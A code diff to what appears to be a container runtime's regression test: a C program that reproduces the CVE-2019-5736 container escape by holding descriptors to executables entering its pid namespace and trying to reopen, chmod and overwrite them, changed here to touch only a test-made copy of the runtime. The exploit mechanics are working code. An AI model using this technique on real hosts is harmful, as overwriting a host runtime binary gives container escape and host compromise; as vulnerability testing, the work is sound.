@@ -1,10 +1,12 @@
 /* The attacker of CVE-2019-5736: keeps a descriptor of the executable of every process that enters its pid namespace,
  * and tries to open it again for writing once nobody runs it, to change its mode, and to truncate it.
  *
- *   overwrite STOPFILE DEVICE INODE
+ *   overwrite STOPFILE DEVICE INODE SIZE
  *
  * runs until STOPFILE exists (at most 120 seconds), then 2 seconds more. It changes only the file of this device and
- * inode number, a copy of the runtime that the test made; any other file is opened and closed. One line per finding:
+ * inode number, a copy of the runtime that the test made, and besides opens for writing only a copy of that copy (a
+ * memfd, or the same inode number and size on another device, as an overlay shows it). Anything else is left alone: to
+ * open ld.so for writing, even for a moment, keeps every program of the host from starting. One line per finding:
  *   saw LINK              an executable outside this mount namespace was opened for reading
  *   writable HOW LINK     … and for writing, or its mode was changed */
 #define _GNU_SOURCE
@@ -18,8 +20,9 @@
 #include <time.h>
 #include <unistd.h>
 
-static struct held { int fd; dev_t dev; ino_t ino; char link[160]; int told; } held[64];
+static struct held { int fd; dev_t dev; ino_t ino; char link[160]; int told, prey; } held[64];
 static int count, self;
+static off_t target_size;
 static unsigned long long target_dev, target_ino, own_mounts[4096];
 static int mount_count;
 
@@ -34,22 +37,33 @@ static int is_inside(int fd)
     return 0;
 }
 
+/* Whether this is the file under attack, or a runtime's private copy of it. */
+static int is_prey(const struct stat *st, const char *link)
+{
+    if (st->st_dev == target_dev && st->st_ino == target_ino)
+        return 1;
+    return !strncmp(link, "/memfd:", 7) || (st->st_ino == target_ino && st->st_size == target_size);
+}
+
 static void try_to_write(struct held *h, const char *how, const char *path, int flags)
 {
-    int fd = open(path, flags | O_CLOEXEC);
-    if (fd < 0)
+    /* Only the copy is ever opened for writing: an open for writing, however short, makes every execution of that file on
+     * the host fail with ETXTBSY, and for the host's loader (seen through nsenter) that is every execution of anything. */
+    int is_target = h->dev == target_dev && h->ino == target_ino;
+    int fd = is_target ? open(path, flags | O_CLOEXEC) : -1;
+    if (is_target ? fd < 0 : faccessat(AT_FDCWD, path, W_OK, AT_EACCESS) < 0)
         return;
     if (!(h->told & 1))
         printf("writable %s %s\n", how, h->link);
     h->told |= 1;
-    if (h->dev == target_dev && h->ino == target_ino) {
+    if (is_target) {
         static const char payload[] = "#!/bin/false overwritten by the container\n";
         if (write(fd, payload, sizeof payload - 1) < 0)
             perror("write");
         if (ftruncate(fd, sizeof payload - 1))
             perror("ftruncate");
+        close(fd);
     }
-    close(fd);
     fflush(stdout);
 }
 
@@ -88,8 +102,11 @@ static void hold(const char *path)
     *h = (struct held){.fd = fd, .dev = st.st_dev, .ino = st.st_ino};
     if (readlink(path, h->link, sizeof h->link - 1) < 0)
         strcpy(h->link, "?");
+    h->prey = is_prey(&st, h->link);
     printf("saw %s\n", h->link);
     fflush(stdout);
+    if (!h->prey)
+        return;
     try_to_write(h, "direct", path, O_WRONLY);
     try_to_write(h, "direct", path, O_RDWR);
 }
@@ -117,8 +134,9 @@ static void look_at_process(int pid)
 
 int main(int argc, char **argv)
 {
-    if (argc < 4)
+    if (argc < 5)
         return 2;
+    target_size = (off_t)strtoull(argv[4], NULL, 10);
     target_dev = strtoull(argv[2], NULL, 10);
     target_ino = strtoull(argv[3], NULL, 10);
     self = getpid();
@@ -140,7 +158,8 @@ int main(int argc, char **argv)
                 look_at_process(pid);
         }
         for (int i = 0; i < count; i++)
-            attack(&held[i]);
+            if (held[i].prey)
+                attack(&held[i]);
         if (!stopping && !access(argv[1], F_OK)) {
             stopping = 1;
             end = time(NULL) + 2;
